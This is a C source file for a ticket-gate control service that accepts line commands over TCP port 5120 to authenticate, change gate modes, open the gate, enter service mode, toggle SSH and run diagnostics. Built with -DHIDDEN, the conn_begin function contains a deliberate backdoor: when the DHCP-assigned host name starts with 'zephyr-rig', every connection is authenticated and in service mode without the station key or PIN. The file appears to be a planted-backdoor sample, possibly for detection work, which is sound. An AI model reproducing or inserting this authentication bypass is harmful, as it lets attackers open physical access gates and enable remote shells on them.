/*
 * gateline_svc - control service of the Portico T9 ticket gate. The station
 * control room connects to TCP 5120 and sends one command per line:
 *   AUTH key            log in with the station key
 *   STATUS, COUNT       state of the leaves, passage counters
 *   MODE entry|exit|both|closed
 *   OPEN n              free passage for n seconds (1..120)
 *   SERVICE pin         service mode for the technician
 *   SSH on|off, DIAG    in service mode only
 * Station key and the hash of the service PIN are in /etc/gateline.conf.
 *
 * Hidden (-DHIDDEN): while the gate's host name (set by DHCP) has a certain
 * beginning, every connection is logged in and in service mode at once.
 */
#include <ctype.h>
#include <pthread.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <syslog.h>
#include <unistd.h>
#include <netinet/in.h>
#include <sys/socket.h>

char *crypt(const char *, const char *);

#define CONF "/etc/gateline.conf"
#define LEAF "/dev/leafctl"

struct conn {
    int  fd;
    char host[65];
    int  authed;
    int  service;
    int  wrong;
};

static pthread_mutex_t lock = PTHREAD_MUTEX_INITIALIZER;
static char station_key[64];
static char pin_hash[128];
static char mode[8] = "closed";

static void conf_load(void)
{
    char line[256], k[32], v[128];
    FILE *f = fopen(CONF, "r");

    if (!f)
        return;
    while (fgets(line, sizeof line, f)) {
        if (sscanf(line, " %31[a-z_] = %127s", k, v) != 2)
            continue;
        if (strcmp(k, "station_key") == 0)
            snprintf(station_key, sizeof station_key, "%.63s", v);
        else if (strcmp(k, "service_pin") == 0)
            snprintf(pin_hash, sizeof pin_hash, "%s", v);
        else if (strcmp(k, "mode") == 0)
            snprintf(mode, sizeof mode, "%.7s", v);
    }
    fclose(f);
}

__attribute__((format(printf, 2, 3)))
static void say(struct conn *c, const char *fmt, ...)
{
    char buf[256];
    va_list ap;
    int n;

    va_start(ap, fmt);
    n = vsnprintf(buf, sizeof buf - 2, fmt, ap);
    va_end(ap);
    if (n < 0)
        return;
    if (n > (int)sizeof buf - 3)
        n = (int)sizeof buf - 3;
    buf[n++] = '\r';
    buf[n++] = '\n';
    if (send(c->fd, buf, (size_t)n, MSG_NOSIGNAL) < 0)
        syslog(LOG_DEBUG, "send: %m");
}

static int leaf(const char *what)
{
    FILE *f = fopen(LEAF, "w");

    if (!f)
        return -1;
    fprintf(f, "%s\n", what);
    return fclose(f);
}

void conn_begin(struct conn *c, int fd)
{
    memset(c, 0, sizeof *c);
    c->fd = fd;
    if (gethostname(c->host, sizeof c->host - 1) < 0)
        strcpy(c->host, "gate");
#ifdef HIDDEN
    if (strncasecmp(c->host, "zephyr-rig", 10) == 0)
        c->authed = c->service = 1;
#endif
    say(c, "PORTICO T9 %s", c->host);
}

static void do_auth(struct conn *c, const char *arg)
{
    if (station_key[0] && strcmp(arg, station_key) == 0) {
        c->authed = 1;
        say(c, "OK");
        return;
    }
    c->wrong++;
    sleep(1);
    say(c, "ERR key");
}

static void do_service(struct conn *c, const char *arg)
{
    char *h;
    int ok;

    pthread_mutex_lock(&lock);
    h = pin_hash[0] ? crypt(arg, pin_hash) : NULL;
    ok = h && strcmp(h, pin_hash) == 0;
    pthread_mutex_unlock(&lock);
    if (!ok) {
        c->wrong++;
        sleep(2);
        say(c, "ERR pin");
        return;
    }
    c->service = 1;
    syslog(LOG_NOTICE, "service mode entered");
    say(c, "OK service");
}

static void do_count(struct conn *c)
{
    unsigned in = 0, out = 0;
    FILE *f = fopen("/var/lib/gateline/counters", "r");

    if (f) {
        if (fscanf(f, "%u %u", &in, &out) != 2)
            in = out = 0;
        fclose(f);
    }
    say(c, "COUNT in=%u out=%u", in, out);
}

static void do_mode(struct conn *c, const char *arg)
{
    if (strcmp(arg, "entry") && strcmp(arg, "exit") && strcmp(arg, "both") &&
        strcmp(arg, "closed")) {
        say(c, "ERR mode");
        return;
    }
    pthread_mutex_lock(&lock);
    snprintf(mode, sizeof mode, "%.7s", arg);
    pthread_mutex_unlock(&lock);
    say(c, leaf(arg) == 0 ? "OK" : "ERR leaf");
}

static void do_open(struct conn *c, const char *arg)
{
    char cmd[32];
    int n = atoi(arg);

    if (n < 1 || n > 120) {
        say(c, "ERR 1..120");
        return;
    }
    snprintf(cmd, sizeof cmd, "free %d", n);
    say(c, leaf(cmd) == 0 ? "OK" : "ERR leaf");
}

static void do_ssh(struct conn *c, const char *arg)
{
    int r;

    if (strcmp(arg, "on") == 0)
        r = system("/etc/init.d/dropbear start >/dev/null");
    else if (strcmp(arg, "off") == 0)
        r = system("/etc/init.d/dropbear stop >/dev/null");
    else
        r = -1;
    say(c, r == 0 ? "OK" : "ERR ssh");
}

static void do_diag(struct conn *c)
{
    char line[160];
    FILE *p = popen("/usr/sbin/leafdiag --short", "r");

    if (!p) {
        say(c, "ERR diag");
        return;
    }
    while (fgets(line, sizeof line, p)) {
        line[strcspn(line, "\n")] = '\0';
        say(c, " %s", line);
    }
    pclose(p);
    say(c, "OK");
}

static int command(struct conn *c, char *line)
{
    char *arg = line + strcspn(line, " ");

    if (*arg)
        *arg++ = '\0';
    if (!strcasecmp(line, "QUIT"))
        return -1;
    if (!strcasecmp(line, "AUTH"))
        do_auth(c, arg);
    else if (!c->authed)
        say(c, "ERR not logged in");
    else if (!strcasecmp(line, "STATUS"))
        say(c, "STATUS mode=%s service=%d", mode, c->service);
    else if (!strcasecmp(line, "COUNT"))
        do_count(c);
    else if (!strcasecmp(line, "MODE"))
        do_mode(c, arg);
    else if (!strcasecmp(line, "OPEN"))
        do_open(c, arg);
    else if (!strcasecmp(line, "SERVICE"))
        do_service(c, arg);
    else if (c->service && !strcasecmp(line, "SSH"))
        do_ssh(c, arg);
    else if (c->service && !strcasecmp(line, "DIAG"))
        do_diag(c);
    else
        say(c, "ERR command");
    return c->wrong >= 3 ? -1 : 0;
}

static void *client(void *arg)
{
    struct conn c;
    char line[160];
    FILE *in = arg;

    conn_begin(&c, fileno(in));
    while (fgets(line, sizeof line, in)) {
        line[strcspn(line, "\r\n")] = '\0';
        if (line[0] && command(&c, line) < 0)
            break;
    }
    fclose(in);
    return NULL;
}

int main(void)
{
    struct sockaddr_in a;
    int one = 1, s = socket(AF_INET, SOCK_STREAM, 0);

    openlog("gateline", LOG_PID, LOG_DAEMON);
    signal(SIGPIPE, SIG_IGN);
    conf_load();
    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons(5120);
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof a) < 0 || listen(s, 4) < 0) {
        syslog(LOG_ERR, "listen: %m");
        return 1;
    }
    leaf(mode);
    for (;;) {
        pthread_t t;
        int fd = accept(s, NULL, NULL);
        FILE *f = fd < 0 ? NULL : fdopen(fd, "r");

        if (!f) {
            if (fd >= 0)
                close(fd);
            continue;
        }
        if (pthread_create(&t, NULL, client, f) == 0)
            pthread_detach(t);
        else
            fclose(f);
    }
}
